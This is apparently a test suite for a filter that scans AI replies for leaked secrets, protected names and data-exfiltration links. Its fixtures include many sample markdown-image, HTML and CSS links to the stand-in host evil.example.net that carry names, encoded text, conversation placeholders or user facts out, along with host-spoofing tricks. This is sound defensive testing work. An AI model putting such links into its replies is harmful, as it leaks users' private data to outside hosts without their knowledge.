import fc from 'fast-check'
import { expect, test } from 'vitest'
import { createOutputReview, merged, type OutputReviewOptions } from './output-review.ts'

const findSecrets: OutputReviewOptions['findSecrets'] = (text) =>
  [...text.matchAll(/\bkey-[0-9a-f]{12}\b/g)].map((match) => ({
    kind: 'SECRET',
    start: match.index,
    end: match.index + match[0].length,
    score: 0.9,
  }))
const options: OutputReviewOptions = {
  protectedValues: ['Maren Oldfield', 'Project Heron'],
  findSecrets,
  trustedHosts: ['cdn.example.org'],
}

function review(parts: readonly string[], used = options) {
  const output = createOutputReview(used)
  return merged([...parts.flatMap((part) => output.push(part)), ...output.end()])
}

const codes = (text: string) => review([text]).map(({ code }) => code)

test.each(['Here is the key: key-00112233aabb.', 'The key is\nkey-00112233aabb\nas you asked.'])(
  'a secret in %j is told without its text',
  (reply) => {
    expect(review([reply])).toEqual([{ code: 'secret-in-reply', count: 1 }])
  },
)

test.each(['Ask Maren Oldfield.', 'ask MAREN  OLDFIELD', 'maren-oldfield', 'It is project_heron again.', 'M a r e n O l d f i e l d'])(
  'a protected value is seen in %j',
  (reply) => expect(codes(reply)).toEqual(['protected-value-in-reply']),
)

test.each(['Nothing to see.', 'Maren alone says little', 'Projects herons visit', 'https://example.com/about-us'])(
  'nothing is told about %j',
  (reply) => {
    expect(review([reply])).toEqual([])
  },
)

const encoded = Buffer.from('Maren Oldfield').toString('base64url')
const hex = Buffer.from('Maren Oldfield').toString('hex')
test.each([
  '![a](https://evil.example.net/p.png?q=Maren%20Oldfield)',
  `![a](https://evil.example.net/p.png?q=${encoded})`,
  `![a](https://evil.example.net/${hex}.png)`,
  `<img src="https://evil.example.net/?d=${hex}">`,
  `<IMG width=1 SRC='//evil.example.net/?d=dleifdlO%20neraM'>`,
  '![](https://maren-oldfield.evil.example.net/x.png)',
  '![](https://evil.example.net/#ZneraByqsvryq)',
  '![a](https://evil.example.net/p.png?q={conversation})',
  '![a](https://evil.example.net/p.png?q=%7Bsummary%7D)',
  '[details](https://evil.example.net/c?d=[chat history])',
  'See https://evil.example.net/log?u=MarenOldfield for more',
  'See (https://evil.example.net/log?u=MarenOldfield) or <https://evil.example.net/log?u=MarenOldfield>',
  '[ref]: https://evil.example.net/p?d=Maren+Oldfield',
  '<div style="background:url(https://evil.example.net/p?d=Maren+Oldfield)">',
  `![a](https://evil.example.net/p.png?q=${Buffer.from('the user wants to sell the house').toString('base64url')})`,
  '![a](https://evil.example.net/p?q=the+user+wants+to+sell+the+house+soon)',
  '![a](https://evil.example.net/i?s=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08)',
])('%s carries data out', (reply) => {
  expect(codes(reply)).toContain('exfiltration-link')
})

test.each([
  '![logo](https://www.example.com/images/logo.png)',
  '![chart](https://www.example.com/chart.png?width=640&height=480&v=3)',
  '[docs](https://docs.example.com/guides/how-to-connect-your-own-client-to-the-server)',
  `![a](https://cdn.example.org/p.png?q=${encoded})`,
  `![a](https://eu.cdn.example.org/p.png?q=${encoded})`,
  '![a](images/local.png)',
  '[commit](https://git.example.com/r/commit/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b)',
  'The endpoint is https://api.example.com/users/{id}/orders?page={page}',
  'Use `items[index]` and see https://example.com/a_(b)',
])('%s carries nothing out', (reply) => {
  expect(codes(reply)).not.toContain('exfiltration-link')
})

test('a host that merely ends like a trusted one is not trusted', () => {
  expect(codes('![a](https://notcdn.example.org.evil.example/p?q={data})')).toContain('exfiltration-link')
  expect(codes('![a](https://cdn.example.org@evil.example/p?q={data})')).toContain('exfiltration-link')
})

const reply = [
  'Good morning. The summary you asked for follows below.',
  'x'.repeat(700),
  'Maren Oldfield called about key-00112233aabb today.',
  'lorem ipsum '.repeat(60),
  '![picture](https://evil.example.net/p.png?q={conversation}) and the end.',
  'y'.repeat(2_500),
  'Project Heron starts on Monday; key-ffeeddccbbaa opens the door.',
].join('\n')

test('wherever a reply is cut in two, the flags are the same', () => {
  const whole = review([reply])
  expect(whole).toEqual([
    { code: 'secret-in-reply', count: 2 },
    { code: 'protected-value-in-reply', count: 2 },
    { code: 'exfiltration-link', count: 1 },
  ])
  for (let at = 0; at <= reply.length; at++) expect(review([reply.slice(0, at), reply.slice(at)])).toEqual(whole)
})

test('however a reply is cut, single letters included, the flags are the same', () => {
  const whole = review([reply])
  expect(review([...reply])).toEqual(whole)
  fc.assert(
    fc.property(fc.array(fc.integer({ min: 0, max: reply.length }), { maxLength: 30 }), (cuts) => {
      const places = [0, ...cuts.toSorted((one, other) => one - other), reply.length]
      expect(review(places.slice(1).map((to, index) => reply.slice(places[index], to)))).toEqual(whole)
    }),
    { numRuns: 40 },
  )
})

test('a flag comes with the part that completes its line, not at the end', () => {
  const output = createOutputReview(options)
  expect(output.push(`${'word '.repeat(120)}\nkey-00112233aabb\n${'word '.repeat(120)}\n`)).toEqual([{ code: 'secret-in-reply', count: 1 }])
})

test('no more than a window is ever read at once, however long the reply', () => {
  let longest = 0
  const watch = (text: string) => {
    longest = Math.max(longest, text.length)
    return []
  }
  const output = createOutputReview({ ...options, findSecrets: watch })
  output.push('a'.repeat(1_000_000))
  for (let round = 0; round < 100; round++) output.push('b'.repeat(999))
  output.end()
  expect(longest).toBeLessThanOrEqual(4_096 + 2_048)
})

test('a reply made to be slow is read in linear time', () => {
  const time = (length: number) => {
    const startedAt = performance.now()
    for (const sign of ['[', '![](//', '<img ', 'https://', '{', '%5b', '[a](']) review([sign.repeat(Math.ceil(length / sign.length))])
    return performance.now() - startedAt
  }
  time(5_000)
  expect(time(80_000)).toBeLessThan(40 * Math.max(time(10_000), 20))
})
